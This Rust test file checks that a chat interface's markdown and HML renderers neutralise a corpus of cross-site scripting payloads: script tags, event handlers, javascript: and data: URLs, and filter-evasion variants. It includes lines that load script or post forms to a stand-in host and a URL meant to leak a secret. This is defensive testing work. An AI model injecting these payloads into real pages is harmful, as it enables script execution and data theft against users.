//! The hostile corpus: markdown and HML written to make the renderers emit live markup
//! (scripts, handlers, styles, frames, forms, dangerous links, images), each case checked
//! with [`hero_shared::markdown::inert`] and, for whole messages, [`hero_shared::html::inert`].
//! The payloads are classic injection vectors; each is tried in every markdown context
//! where a renderer might treat it differently, inside HML elements (their prose, their
//! attributes, their data), in the fields of calls' cards, and in a message's own fields.

use hero_shared::calls::{CallOrigin, CallRequest, CallResult, CallStatus, CallView, Outcome};
use hero_shared::frame::{AuthorType, CompiledMessage, FrameType, Role};
use hero_shared::hml::{Node, parse};
use hero_shared::html::{self, Place};
use hero_shared::markdown::{MdPart, inert, render};

/// Markup and URLs that are live if they reach the DOM as they are.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</p>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=https://evil.example><input name=p></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "<x onmouseover=alert(1)>hover</x>",
    "<table background=\"javascript:alert(1)\">",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<textarea onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
];

/// Link and image targets a model might use to run script or leak data.
const URLS: &[&str] = &[
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example/?q=\"><script>alert(1)</script>",
    "https://evil.example/\" onmouseover=\"alert(1)",
    "https://evil.example/?leak=SECRET",
    "<javascript:alert(1)>",
];

/// Where a payload may sit in markdown.
fn contexts(p: &str) -> Vec<String> {
    vec![
        p.to_owned(),
        format!("text before {p} text after"),
        format!("# {p}"),
        format!("**{p}**"),
        format!("> {p}"),
        format!("- {p}\n- [x] {p}"),
        format!("| a |\n|---|\n| {p} |"),
        format!("[{p}](https://ok.example)"),
    ]
}

/// Where a URL may sit in markdown.
fn url_contexts(u: &str) -> Vec<String> {
    vec![
        format!("[click]({u})"),
        format!("[click](<{u}>)"),
        format!("![alt]({u})"),
        format!("[click][r]\n\n[r]: {u}"),
        format!("<{u}>"),
        format!("[![img]({u})]({u})"),
    ]
}

/// An HML reply around `p`: the page renders the prose of each element, and the text
/// between elements, through the same renderer.
fn hml_contexts(p: &str) -> Vec<String> {
    vec![
        format!("<thinking>{p}</thinking>"),
        format!("<result>{p}</result>"),
        format!("<todo><item status=done>{p}</item></todo>"),
        format!("before <progress value=1 max=2>{p}</progress> after {p}"),
    ]
}

fn check(case: &str) -> usize {
    let mut n = 0;
    for part in render(case) {
        if let MdPart::Html(h) = part {
            if let Err(e) = inert(&h) {
                panic!("live markup ({e}) from {case:?}:\n{h}");
            }
            n += 1;
        }
    }
    n
}

/// Every text the page would render from an HML document, prose nested in elements too.
fn prose(nodes: &[Node], out: &mut Vec<String>) {
    for n in nodes {
        match n {
            Node::Text(t) => out.push(t.clone()),
            Node::Element(e) => prose(&e.children, out),
        }
    }
}

#[test]
fn no_hostile_case_yields_live_markup() {
    let mut cases = 0;
    for p in PAYLOADS {
        for c in contexts(p) {
            check(&c);
            cases += 1;
        }
        for c in hml_contexts(p) {
            let mut texts = Vec::new();
            prose(&parse(&c).nodes, &mut texts);
            for t in texts {
                check(&t);
            }
            cases += 1;
        }
    }
    for u in URLS {
        for c in url_contexts(u) {
            check(&c);
            cases += 1;
        }
    }
    assert!(cases >= 300, "only {cases} cases");
}

#[test]
fn hostile_links_become_text_and_good_ones_stay() {
    for u in URLS {
        let html: String = render(&format!("[click]({u})"))
            .into_iter()
            .filter_map(|p| match p {
                MdPart::Html(h) => Some(h),
                _ => None,
            })
            .collect();
        // The https URLs link, escaped (a quote cannot end the attribute); the rest are text.
        assert!(
            !html.contains("<script") && !html.contains("\" on"),
            "{u}: {html}"
        );
        if u.starts_with("https://") && !u.contains(' ') {
            assert!(
                html.contains("<a href=\"https://evil.example/"),
                "{u}: {html}"
            );
        } else {
            assert!(!html.contains("<a "), "{u}: {html}");
        }
    }
}

/// An HML reply with `p` wherever model text reaches an element: its body, each attribute
/// the page shows or uses, a prompt's options.
fn element_contexts(p: &str) -> Vec<String> {
    let data = serde_json::to_string(&[p, "ok"]).unwrap_or_default();
    let mut out = vec![
        format!("<link href=\"{p}\">{p}</link>"),
        format!("<link href=https://ok.example>{p}</link>"),
        format!("<copy label=\"{p}\">{p}</copy>"),
        format!("<todo title=\"{p}\"><item status=\"{p}\">{p}</item></todo>"),
        format!("<progress value=\"{p}\" max=\"{p}\" status=\"{p}\"></progress>"),
        format!("<result for=\"{p}\" status=\"{p}\">{p}</result>"),
        format!("<bash cwd=\"{p}\" timeout=\"{p}\">{p}</bash>"),
        format!("<websearch>{p}</websearch> <ask>{p}</ask> <thinking>{p}"),
        format!(
            "<hml-prompt id=\"{p}\" type=text default=\"{p}\" min=\"{p}\" max=\"{p}\" step=\"{p}\">{p}</hml-prompt>"
        ),
        format!("<hml-prompt type=checkbox default=\"{p}\">{p}</hml-prompt>"),
    ];
    for kind in ["select", "radio", "checkboxes"] {
        out.push(format!(
            "<hml-prompt type={kind}>{p}<data>{data}</data></hml-prompt>"
        ));
    }
    out.push(format!(
        "<hml-prompt type=text>{p}<response>{p}</response></hml-prompt>"
    ));
    out
}

fn message(role: Role, content: &str, p: &str) -> CompiledMessage {
    CompiledMessage {
        frame_id: p.to_owned(),
        seq: 1,
        frame_type: FrameType::Message,
        parent_id: None,
        author_type: AuthorType::Agent,
        author_id: None,
        role,
        content: content.to_owned(),
        hidden: true,
        edited: false,
        versions: None,
        timestamp: String::new(),
        payload: serde_json::json!({"agent_name": p, "error": p, "private": true}),
    }
}

/// A call with `p` in every field a card shows: waiting for approval, asking (through a
/// native tool call, so the card asks), and done.
fn calls(p: &str) -> Vec<CallView> {
    let request = |status, origin| CallRequest {
        function: p.to_owned(),
        args: serde_json::json!({"question": p, "options": [p, "ok"], "default": p, "q": p}),
        origin,
        status,
        decided_by: None,
        sender_id: None,
        problem: Some(p.to_owned()),
        content: p.to_owned(),
        expires_at: Some(1),
        permissions: None,
        change: None,
    };
    let tool = || CallOrigin::Tool {
        tool_use_id: p.to_owned(),
    };
    vec![
        CallView {
            request_id: p.to_owned(),
            message_id: p.to_owned(),
            request: request(CallStatus::Pending, tool()),
            result: None,
        },
        CallView {
            request_id: format!("{p}2"),
            message_id: p.to_owned(),
            request: request(CallStatus::Asking, tool()),
            result: None,
        },
        CallView {
            request_id: format!("{p}3"),
            message_id: p.to_owned(),
            request: request(CallStatus::Approved, tool()),
            result: Some(CallResult {
                function: p.to_owned(),
                outcome: Outcome::Ok,
                content: p.to_owned(),
                output: p.to_owned(),
                tool_use_id: None,
            }),
        },
    ]
}

fn check_html(case: &str, h: &str) {
    if let Err(e) = html::inert(h) {
        panic!("live markup ({e}) from {case:?}:\n{h}");
    }
}

#[test]
fn no_hostile_message_element_or_card_yields_live_markup() {
    let mut cases = 0;
    for p in PAYLOADS.iter().chain(URLS) {
        for c in element_contexts(p) {
            // Stored (with its prompts' fields) and streaming.
            check_html(
                &c,
                &html::message_html(&message(Role::Agent, &c, p), &calls(p)),
            );
            let doc = parse(&c);
            let live = Place {
                live: true,
                message_id: None,
                calls: &[],
            };
            check_html(&c, &html::nodes_html(&doc.nodes, live));
            cases += 1;
        }
        for role in [Role::User, Role::System] {
            check_html(p, &html::message_html(&message(role, p, p), &calls(p)));
            cases += 1;
        }
        check_html(p, &html::markdown_html(p));
        let mut summary = message(Role::Agent, p, p);
        summary.frame_type = FrameType::Compact;
        summary.payload = serde_json::json!({"messages": p});
        for shown in [false, true] {
            check_html(p, &html::summary_html(&summary, shown));
        }
        let page = html::messages_html(&[message(Role::Agent, p, p), summary], true, |_| false);
        check_html(p, &html::earlier_pages_html(std::slice::from_ref(&page)));
        check_html(p, &html::stored_html(&page));
    }
    assert!(cases >= 900, "only {cases} cases");
}

#[test]
fn an_elements_hostile_link_is_text_and_a_good_one_links() {
    for u in URLS {
        let h = html::message_html(
            &message(Role::Agent, &format!("<link href=\"{u}\">x</link>"), "m"),
            &[],
        );
        assert!(!h.contains("<a ") || u.starts_with("https://"), "{u}: {h}");
    }
    let h = html::message_html(
        &message(
            Role::Agent,
            "<link href=\"https://ok.example/a?b=1&c=2\">ok</link>",
            "m",
        ),
        &[],
    );
    assert!(
        h.contains(
            "<a class=\"hml hml-inline hml-link\" href=\"https://ok.example/a?b=1&amp;c=2\""
        ),
        "{h}"
    );
}
